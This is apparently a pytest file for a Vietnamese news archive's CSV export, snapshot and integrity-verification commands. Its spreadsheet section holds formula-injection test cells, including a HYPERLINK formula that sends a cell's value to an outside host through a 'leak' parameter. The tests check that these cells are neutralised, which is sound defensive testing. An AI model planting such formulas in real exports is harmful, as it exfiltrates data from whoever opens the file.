"""CSV export, snapshots and their verification, through the functions and the click commands."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner

from archive import export, runs, store
from archive.publish_cli import export_command, serve_command, snapshot_command, verify_command
from tests.archive_fixtures import ARTICLES, BASE, XSS_TEXT, build_archive, page, record, url


@pytest.fixture(scope="module")
def archive_db(tmp_path_factory):
    return build_archive(tmp_path_factory.mktemp("export") / "archive.db")


@pytest.fixture(scope="module")
def snap(archive_db, tmp_path_factory):
    return export.snapshot(archive_db, tmp_path_factory.mktemp("snapshots"))


def read_csv(path):
    """Rows of an exported CSV, read as a spreadsheet or csv user would: past its byte-order mark."""
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def test_export_writes_csvs_matching_their_manifest(archive_db, tmp_path):
    out = tmp_path / "export"
    manifest = export.export_csv(archive_db, out)
    assert json.loads((out / "manifest.json").read_text()) == manifest
    assert set(manifest["files"]) == {f"{t}.csv" for t in export.TABLES} | {"articles.safe.csv"}
    for name, entry in manifest["files"].items():
        data = (out / name).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
        assert len(data) == entry["bytes"]
        assert len(read_csv(out / name)) == entry["rows"]
    assert manifest["files"]["articles.csv"]["rows"] == len(ARTICLES)
    assert manifest["files"]["article_versions.csv"]["rows"] == len(ARTICLES) + 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export"]  # no temporary left over


def test_articles_csv_keeps_published_text_without_fold_columns(archive_db, tmp_path):
    export.export_csv(archive_db, tmp_path / "e")
    articles = {row["url"]: row for row in read_csv(tmp_path / "e" / "articles.csv")}
    assert not [c for c in next(iter(articles.values())) if c.endswith("_fold")]
    assert articles[url("van-hoa-moi")]["title"] == "Công tác văn hoá và thuỷ lợi"
    assert articles[url("xss")]["text"] == XSS_TEXT
    # UTF-8 with a byte-order mark, so that Excel reads Vietnamese as UTF-8
    assert (tmp_path / "e" / "articles.csv").read_bytes().startswith(b"\xef\xbb\xbfurl,site,title,")
    captures = read_csv(tmp_path / "e" / "captures.csv")
    assert "body" not in captures[0] and captures[0]["sha256"]


def test_manifest_says_what_the_data_is(archive_db, tmp_path):
    m = export.export_csv(archive_db, tmp_path / "e")
    assert re.fullmatch(r"export-\d{8}T\d{6}Z-[0-9a-f]{8}", m["snapshot_id"])
    assert m["schema_version"] >= 2
    assert m["crawl_window"]["first_fetch"] == "2023-03-02T00:00:00+00:00"
    assert m["crawl_window"]["last_fetch"] == "2023-04-01T00:00:01+00:00"
    assert m["crawl_window"]["first_run_started"] <= m["crawl_window"]["last_run_finished"]
    assert m["extractors"] == [{"extractor": "vnarchive-test", "extractor_version": "1", "articles": 9}]
    assert {"scrapy", "trafilatura", "sqlite-utils", "datasette"} <= set(m["software"])
    assert m["software"]["datasette"].startswith("0.")


def test_export_opens_the_database_read_only(archive_db, tmp_path):
    before = archive_db.stat().st_mtime_ns
    os.chmod(archive_db, 0o444)
    try:
        export.export_csv(archive_db, tmp_path / "e")
    finally:
        os.chmod(archive_db, 0o644)
    assert archive_db.stat().st_mtime_ns == before


def test_snapshot_is_a_dated_verified_copy(archive_db, snap):
    assert re.fullmatch(r"snapshot-\d{8}T\d{6}Z-[0-9a-f]{8}", snap.name)
    manifest = json.loads((snap / "manifest.json").read_text())
    assert manifest["snapshot_id"] == snap.name
    db = manifest["database"]
    assert db["sha256"] == hashlib.sha256((snap / "archive.db").read_bytes()).hexdigest()
    assert snap.name.endswith(db["sha256"][:8])
    copy = sqlite3.connect(f"{(snap / 'archive.db').as_uri()}?immutable=1", uri=True)
    original = sqlite3.connect(archive_db)
    for table in ("articles", "article_versions", "captures", "bodies"):
        q = f"select count(*) from {table}"
        assert copy.execute(q).fetchone() == original.execute(q).fetchone()
    assert copy.execute("pragma journal_mode").fetchone() == ("delete",)
    assert oct((snap / "archive.db").stat().st_mode & 0o777) == "0o444"
    assert export.verify(snap) == []


def test_snapshot_carries_datasette_inspect_data_for_its_database(snap):
    """Every table's row count and the database's sha256, as ``datasette inspect`` would write them."""
    manifest = json.loads((snap / "manifest.json").read_text())
    data = json.loads((snap / export.INSPECT_FILE).read_text())
    assert set(data) == {"archive"}
    assert data["archive"]["hash"] == manifest["database"]["sha256"]
    assert data["archive"]["size"] == manifest["database"]["bytes"]
    copy = sqlite3.connect(f"{(snap / 'archive.db').as_uri()}?immutable=1", uri=True)
    tables = [r[0] for r in copy.execute("select name from sqlite_master where type = 'table'")]
    assert set(data["archive"]["tables"]) == set(tables)
    for table in tables:
        count = copy.execute(f'select count(*) from "{table}"').fetchone()[0]
        assert data["archive"]["tables"][table] == {"count": count}
    assert data["archive"]["tables"]["articles"]["count"] == len(ARTICLES)
    assert export.INSPECT_FILE in manifest["files"]  # vouched for: verify re-checks it


def copy_of(snap: Path, tmp_path: Path) -> Path:
    copy = tmp_path / snap.name
    copy.mkdir()
    for path in snap.iterdir():
        (copy / path.name).write_bytes(path.read_bytes())
    return copy


def flip_one_byte(directory: Path) -> None:
    """Change one byte in the middle of the database, keeping its size (a bit rot, a quiet edit)."""
    path = directory / "archive.db"
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


def rewrite_manifest(directory: Path, name: str, **entry) -> None:
    """Vouch in the manifest for ``name`` as it now is, with ``entry`` overriding."""
    manifest = json.loads((directory / "manifest.json").read_text(encoding="utf-8"))
    data = (directory / name).read_bytes()
    manifest["files"][name].update(bytes=len(data), sha256=hashlib.sha256(data).hexdigest(), **entry)
    (directory / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")


@pytest.mark.parametrize(
    ("tamper", "expected"),
    [
        (
            lambda d: (d / "articles.csv").write_bytes(
                (d / "articles.csv").read_bytes().replace(b"Minh", b"Mjnh")
            ),
            "articles.csv: sha256",
        ),
        (lambda d: (d / "article_tags.csv").unlink(), "article_tags.csv: missing"),
        (lambda d: (d / "notes.txt").write_text("x"), "notes.txt: not in the manifest"),
        (lambda d: (d / "archive.db").write_bytes(b"x"), "archive.db: size 1 bytes"),
        (lambda d: (d / "manifest.json").write_text("{"), "manifest.json: unreadable"),
        (flip_one_byte, "archive.db: sha256"),  # same size: only the digest can tell
    ],
)
def test_verify_detects_tampering(snap, tmp_path, tamper, expected):
    copy = copy_of(snap, tmp_path)
    assert export.verify(copy) == []
    tamper(copy)
    problems = export.verify(copy)
    assert any(p.startswith(expected) for p in problems), problems


def test_verify_same_size_tamper_is_one_line(snap, tmp_path):
    copy = copy_of(snap, tmp_path)
    size = (copy / "archive.db").stat().st_size
    flip_one_byte(copy)
    [problem] = export.verify(copy)
    assert (copy / "archive.db").stat().st_size == size
    assert re.fullmatch(r"archive\.db: sha256 [0-9a-f]{64}, manifest says [0-9a-f]{64}", problem), problem


def test_verify_checks_csv_row_counts_behind_a_matching_digest(snap, tmp_path):
    """A manifest whose digest matches but whose row count does not: the count is checked too."""
    copy = copy_of(snap, tmp_path)
    rows = json.loads((copy / "manifest.json").read_text())["files"]["articles.csv"]["rows"]
    assert rows == 9
    rewrite_manifest(copy, "articles.csv", rows=10)
    assert export.verify(copy) == ["articles.csv: 9 rows, manifest says 10"]


def test_verify_reports_a_csv_it_cannot_read(snap, tmp_path):
    copy = copy_of(snap, tmp_path)
    (copy / "articles.csv").write_bytes(b"url,title\r\nx,\xff\xfe not UTF-8\r\n")
    rewrite_manifest(copy, "articles.csv")
    [problem] = export.verify(copy)
    assert problem.startswith("articles.csv: not readable CSV ('utf-8' codec can't decode byte 0xff"), problem


# -- the commands ---------------------------------------------------------------------------


def invoke(command, *args):
    return CliRunner().invoke(command, [str(a) for a in args])


def test_export_and_verify_commands(archive_db, tmp_path):
    result = invoke(export_command, "--db", archive_db, "--out", tmp_path / "e")
    assert result.exit_code == 0 and "9 articles" in result.output
    result = invoke(verify_command, tmp_path / "e")
    assert result.exit_code == 0 and result.output.strip().endswith("ok")


def test_snapshot_command_prints_what_to_cite(archive_db, tmp_path):
    result = invoke(snapshot_command, "--db", archive_db, "--out", tmp_path / "snaps")
    assert result.exit_code == 0, result.output
    path, digest_line = result.output.strip().splitlines()
    digest = hashlib.sha256((tmp_path / "snaps" / os.path.basename(path) / "manifest.json").read_bytes())
    assert digest_line == f"manifest sha256 {digest.hexdigest()}"


def test_verify_command_fails_with_one_line_per_problem(snap, tmp_path):
    copy = tmp_path / "copy"
    copy.mkdir()
    for path in snap.iterdir():
        (copy / path.name).write_bytes(path.read_bytes())
    (copy / "crawl_runs.csv").unlink()
    (copy / "extra.csv").write_text("a\n")
    result = invoke(verify_command, copy)
    assert result.exit_code == 1
    assert result.output.splitlines() == [
        "Error: crawl_runs.csv: missing",
        "Error: extra.csv: not in the manifest",
    ]


@pytest.mark.parametrize(
    ("command", "make_args", "message"),
    [
        (export_command, lambda t, db: ["--db", t / "missing.db", "--out", t / "o"], "no database at"),
        (
            export_command,
            lambda t, db: ["--db", t / "junk.db", "--out", t / "o"],
            "is not an SQLite database",
        ),
        (
            export_command,
            lambda t, db: ["--db", t / "other.db", "--out", t / "o"],
            "not a vnarchive database",
        ),
        (export_command, lambda t, db: ["--db", db, "--out", t / "file.txt" / "o"], "cannot write to"),
        (export_command, lambda t, db: ["--db", db, "--out", t / "full"], "not an empty directory"),
        (
            snapshot_command,
            lambda t, db: ["--db", t / "junk.db", "--out", t / "o"],
            "is not an SQLite database",
        ),
        (snapshot_command, lambda t, db: ["--db", db, "--out", t / "file.txt"], "cannot write to"),
        (serve_command, lambda t, db: ["--db", t / "missing.db"], "no database at"),
        (serve_command, lambda t, db: ["--db", t / "junk.db"], "is not an SQLite database"),
        (serve_command, lambda t, db: ["--snapshot", t / "o"], "no database at"),
        (verify_command, lambda t, db: [t / "o"], "not a directory"),
    ],
)
def test_bad_input_is_one_clear_line(archive_db, tmp_path, command, make_args, message):
    (tmp_path / "junk.db").write_bytes(b"this is not sqlite" * 100)
    (tmp_path / "file.txt").write_text("x")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "keep.txt").write_text("x")
    sqlite3.connect(tmp_path / "other.db").execute("create table t (a)").connection.close()
    before = sorted(p.name for p in tmp_path.iterdir())
    result = invoke(command, *make_args(tmp_path, archive_db))
    assert result.exit_code == 1
    (line,) = result.output.splitlines()
    assert line.startswith("Error: ") and message in line
    assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing half-written


def test_help_texts_have_examples():
    for command in (serve_command, export_command, snapshot_command, verify_command):
        result = invoke(command, "--help")
        assert result.exit_code == 0 and "Example:\n      vnarchive " in result.output


def test_articles_csv_is_in_publication_order(tmp_path):
    # archived newest first, as a backfill walking a listing does, plus one undated article
    db = store.open_db(tmp_path / "archive.db")
    run = runs.start_run(db, "tuyengiao", BASE)
    slugs = list(ARTICLES)[:4]
    dates = {
        slugs[0]: "2023-05-01T08:00:00+07:00",
        slugs[1]: "2022-01-01T08:00:00+07:00",
        slugs[2]: None,
        slugs[3]: "2022-06-01T08:00:00+07:00",
    }
    for i, slug in enumerate(slugs):
        store.record_page(
            db, page(slug, f"2023-06-01T00:00:{i:02d}+00:00"), record(slug, published=dates[slug]), run_id=run
        )
    db.conn.close()
    export.export_csv(tmp_path / "archive.db", tmp_path / "e")
    rows = read_csv(tmp_path / "e" / "articles.csv")
    assert [r["url"] for r in rows] == [url(slugs[2]), url(slugs[1]), url(slugs[3]), url(slugs[0])]


def csv_reference(db_path, table):
    """The CSV bytes Python's csv module writes for a table, in rowid order, without fold columns."""
    conn = sqlite3.connect(db_path)
    withheld = export.WITHHELD_COLUMNS.get(table, ())
    columns = [
        r[1]
        for r in conn.execute(f"pragma table_info([{table}])")
        if not r[1].endswith("_fold") and r[1] not in withheld
    ]
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerows(
        conn.execute(f"select {', '.join(f'[{c}]' for c in columns)} from [{table}] order by rowid")
    )
    conn.close()
    return b"\xef\xbb\xbf" + out.getvalue().encode("utf-8")


@pytest.mark.parametrize(
    "value",
    [
        'say "hi"',
        "a,b",
        "line\nbreak",
        "cr\ronly",
        "cr\rlf\r\n",
        "",
        " padded ",
        "Đảng\u0300 NFD",
        "tab\tsep",
        "nul\x00byte",
        -7,
        3.25,
        1e20,
        b"\x00\xffraw",
        None,
    ],
    ids=repr,
)
def test_csv_lines_are_what_the_csv_module_writes(archive_db, tmp_path, value):
    db_path = tmp_path / "archive.db"
    db_path.write_bytes(archive_db.read_bytes())
    conn = sqlite3.connect(db_path)
    conn.execute(
        "update article_tags set tag = ? where rowid = (select min(rowid) from article_tags)", [value]
    )
    conn.execute("update crawl_runs set stats = ? where id = (select min(id) from crawl_runs)", [value])
    conn.commit()
    conn.close()
    export.export_csv(db_path, tmp_path / "e")
    for table in export.TABLES:
        assert (tmp_path / "e" / f"{table}.csv").read_bytes() == csv_reference(db_path, table), table


# -- spreadsheets -----------------------------------------------------------------------------

#: Archived cells a spreadsheet would run as formulas, and cells it would not.
FORMULAS = {
    "title": '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
    "lead": "+84 máy lẻ 12",
    "author": "@Trần Bình",
    "category": "\tThời sự",
    "source": "-7",  # a number, not a formula: left alone
    "text": "- Đoạn đầu.\n- Đoạn hai.",
    "published_raw": "\r10:10",
}


def test_spreadsheet_copy_neutralises_formulas_and_the_archive_stays_faithful(archive_db, tmp_path):
    db_path = tmp_path / "archive.db"
    db_path.write_bytes(archive_db.read_bytes())
    conn = sqlite3.connect(db_path)
    assignments = ", ".join(f"{column} = ?" for column in FORMULAS)
    conn.execute(f"update articles set {assignments} where url = ?", [*FORMULAS.values(), url("xss")])
    conn.execute("update articles set lead = ? where url = ?", ["nul\x00byte", url("dang")])
    conn.commit()
    conn.close()
    manifest = export.export_csv(db_path, tmp_path / "e")
    faithful = {row["url"]: row for row in read_csv(tmp_path / "e" / "articles.csv")}
    safe = {row["url"]: row for row in read_csv(tmp_path / "e" / "articles.safe.csv")}
    # articles.csv keeps every cell as archived, formulas included
    assert {c: faithful[url("xss")][c] for c in FORMULAS} == FORMULAS
    assert faithful[url("dang")]["lead"] == "nul\x00byte"
    # the copy: each formula cell behind an apostrophe, everything else identical
    expected = {c: v if c == "source" else "'" + v for c, v in FORMULAS.items()}
    assert {c: safe[url("xss")][c] for c in FORMULAS} == expected
    assert safe.keys() == faithful.keys()
    for key, row in faithful.items():
        for column, value in row.items():
            if safe[key][column] != value:
                assert safe[key][column] == "'" + value and value.startswith(export.FORMULA_STARTS)
    entry = manifest["files"]["articles.safe.csv"]
    assert entry["copy_of"] == "articles.csv" and entry["rows"] == len(ARTICLES)
    assert entry["neutralised_cells"] == len(FORMULAS) - 1
    assert (tmp_path / "e" / "articles.safe.csv").read_bytes().startswith(b"\xef\xbb\xbfurl,site,")
    assert export.verify(tmp_path / "e") == []


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-7", "-7"),
        ("+3.5e2", "+3.5e2"),
        ("Đảng", "Đảng"),
        (" =1", " =1"),
        ("", ""),
    ],
    ids=repr,
)
def test_spreadsheet_safe(cell, shown):
    assert export.spreadsheet_safe(cell) == shown


def test_a_csv_without_byte_order_mark_still_verifies(snap, tmp_path):
    """Exports made before the byte-order mark: their manifests vouch for files without one."""
    copy = copy_of(snap, tmp_path)
    data = (copy / "articles.csv").read_bytes()
    assert data.startswith(export.BOM)
    (copy / "articles.csv").write_bytes(data[len(export.BOM) :])
    rewrite_manifest(copy, "articles.csv")
    assert export.verify(copy) == []
